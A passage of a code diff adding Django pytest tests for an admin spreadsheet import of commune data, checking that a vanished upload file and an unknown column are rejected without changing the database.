+    assert response["Location"] == ADMIN_IMPORT_URL
+    assert db_state() == before
+    assert Commune.objects.get(code=DAK_MAN).population is None
+    follow = administrator.get(response["Location"])
+    assert any("Nothing was written" in m for m in messages_of(follow))
+
+
+@pytest.mark.django_db
+def test_admin_import_confirm_with_a_vanished_file_fails_cleanly(demo_baseline, administrator):
+    before = db_state()
+
+    response = administrator.post(
+        ADMIN_PROCESS_URL,
+        {"import_file_name": "does-not-exist.xlsx", "original_file_name": "xa.xlsx", "format": "0", "resource": "0"},
+    )
+
+    assert response.status_code == 302
+    assert response["Location"] == ADMIN_IMPORT_URL
+    assert db_state() == before
+
+
+@pytest.mark.django_db
+def test_admin_import_refuses_an_unknown_column(demo_baseline, administrator):
+    before = db_state()
+
+    response = admin_preview(administrator, xlsx(["Mã xã", "Dan so"], [[DAK_MAN, 5]]))
+
+    assert "Dan so" in " ".join(response.context["form"].errors["import_file"])
+    assert response.context.get("confirm_form") is None
     assert db_state() == before
